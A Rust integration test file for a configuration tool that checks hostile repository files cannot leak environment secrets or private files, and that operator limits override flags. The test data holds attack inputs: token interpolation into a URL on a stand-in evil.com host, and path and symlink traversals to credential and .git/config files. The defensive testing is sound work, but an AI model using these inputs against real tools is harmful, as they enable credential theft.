//! Attacks through files: the real program over a socket that counts requests. Each attack fails before anything is sent, and no message
//! shows a secret. Also operator limits, which files and flags cannot exceed.

use std::fs;
use std::os::unix::fs::symlink;

use riskform::sandbox::Settings;
use tempfile::TempDir;

use crate::support::{Run, SandboxServer, TestDir, serve};

const HEAD: &str = "version: 1\naccount_id: 023e105f4ecef8ad9ca31a8372d0c353\n";

/// A directory with an untrusted repository next to private files. The environment contains secrets.
fn attacked(server: &SandboxServer) -> TestDir {
    let mut workplace = TestDir::with(server);
    for name in ["GH_PAT", "GITHUB_TOKEN", "MY_ACCOUNT_ID_TOKEN"] {
        workplace.set(name, "very-private");
    }
    workplace.set("RISKFORM_NOTIFY_SECRET", "very-private");
    workplace.set("HTTPS_PROXY", "http://very-private.example:3128");
    fs::create_dir_all(workplace.path("home")).unwrap();
    fs::create_dir_all(workplace.path("repo/.git")).unwrap();
    workplace.write("home/creds.yaml", "{version: 1,   name: very-private}\n");
    let remote = "[remote]\n\turl = https://very-private@example.com\n";
    workplace.write("repo/.git/config", remote);
    workplace
}

fn assert_no_secret_shown(what: &str, run: &Run) {
    let shown = format!("{}\n{}", run.stdout, run.stderr);
    assert!(!shown.contains("very-private"), "{what}:\n{shown}");
}

/// Columns: an integration or key of the file, or the target of a link in its place, and the expected rule.
#[test]
fn files_read_no_variables_and_files_of_their_choice() {
    let server = SandboxServer::start(Settings::default());
    for (attack, rule) in [
        ("reference_id: ${GH_PAT}", "forbidden-variable"),
        (
            "reference_id: ${RISKFORM_NOTIFY_SECRET}",
            "forbidden-variable",
        ),
        ("reference_id: ${MY_ACCOUNT_ID_TOKEN}", "forbidden-variable"),
        ("reference_id: ${HTTPS_PROXY:-r1}", "forbidden-variable"),
        (
            "tenant_url: https://${GH_PAT}.evil.com",
            "forbidden-variable",
        ),
        ("extends: [\"${GH_PAT}.yaml\"]", "interpolation"),
        ("extends: [../home/creds.yaml]", "outside-root"),
        ("api_token_env: GITHUB_TOKEN", "variable-name"),
        ("api_token_env: ${GH_PAT}", "interpolation"),
        ("-> ../home/creds.yaml", "outside-root"),
        ("-> .git/config", "outside-root"),
    ] {
        let workplace = attacked(&server);
        let text = match attack.split_once(':') {
            Some(("reference_id" | "tenant_url", _)) => {
                format!("{HEAD}integrations:\n  a:\n    {attack}\n")
            }
            _ => format!("{HEAD}{attack}\n"),
        };
        match attack.strip_prefix("-> ") {
            Some(target) => symlink(target, workplace.path("repo/riskform.yaml")).unwrap(),
            None => drop(workplace.write("repo/riskform.yaml", &text)),
        }
        for command in ["validate", "plan", "drift", "apply", "destroy", "fmt"] {
            let run = workplace.run(&[command, "repo/riskform.yaml"]);
            assert_no_secret_shown(attack, &run);
            // fmt formats files with invalid values.
            if command != "fmt" {
                assert_eq!(run.code, 1, "{attack}: {command}\n{}", run.stderr);
                let shown = run.stdout + &run.stderr;
                assert!(shown.contains(rule), "{attack}: {rule}\n{shown}");
            }
        }
    }
    assert_eq!(server.requests().len(), 0);
}

/// A limits file outside of the checkout.
fn limits(text: &str) -> (TempDir, String) {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("limits.yaml");
    fs::write(&path, format!("version: 1\n{text}")).unwrap();
    let path = path.to_str().unwrap().to_owned();
    (directory, path)
}

#[test]
fn limits_hold_for_files_flags_and_saved_plans() {
    let delete = "behaviors: {}\nunlisted: { integrations: delete }\nguards: { max_deletes: 9 }\n";
    let create = "integrations:\n  a: { tenant_url: https://a.evil.example }\n";
    let flags = ["--max-deletes=9", "--allow-delete-all", "--allow-weakening"];
    let server = SandboxServer::start(Settings::default());
    for (text, file, message) in [
        (
            "guards: { max_deletes: 0 }\n",
            delete,
            "the operator limit is 0",
        ),
        (
            "guards: { weakening: deny }\n",
            delete,
            "the limits deny that",
        ),
        (
            "guards: { protected: [\"https://example.oktapreview.com\"] }\n",
            delete,
            "but https://example.oktapreview.com is protected (by the limits)",
        ),
        (
            "allowed_tenants: [\"*.okta.com\"]\n",
            create,
            "which --limits does not allow",
        ),
    ] {
        let mut workplace = TestDir::with_file(&server, &format!("{HEAD}{file}"));
        let (_directory, path) = limits(text);
        let saved = workplace.run(&[&["plan", "--out=saved.plan"][..], &flags].concat());
        assert_eq!(saved.code, 0, "{text}\n{}{}", saved.stdout, saved.stderr);
        let apply = ["apply", "--auto-approve", "--limits", &path];
        for arguments in [&flags[..], &["--plan", "saved.plan"]] {
            let run = workplace.run(&[&apply[..], arguments].concat());
            let shown = run.stdout + &run.stderr;
            assert_eq!(run.code, 5, "{text}\n{shown}");
            assert!(shown.contains(message), "{message}\n{shown}");
        }
        workplace.set("RISKFORM_LIMITS", &path);
        workplace.run(&[&["plan"][..], &flags].concat()).exits(5);
    }
    assert_eq!(server.writes(), 0);
}

#[test]
fn invalid_limits_stop_every_run() {
    let (server, workplace) = serve(HEAD);
    let (_directory, path) = limits("guard: {}\n");
    for (path, code, rule) in [
        (path.as_str(), 1, "unknown-key"),
        ("gone.yaml", 1, "unreadable"),
    ] {
        let run = workplace.run(&["plan", "--limits", path]).exits(code);
        run.says(rule);
    }
    assert_eq!(server.requests().len(), 0);
    workplace.write("limits.yaml", "version: 1\n");
    let inside = workplace.line("validate --limits limits.yaml riskform.yaml");
    assert_eq!(inside.code, 0, "{}", inside.stderr);
    let shown = inside.stdout + &inside.stderr;
    assert!(shown.contains("limits-beneath-root"), "{shown}");
}
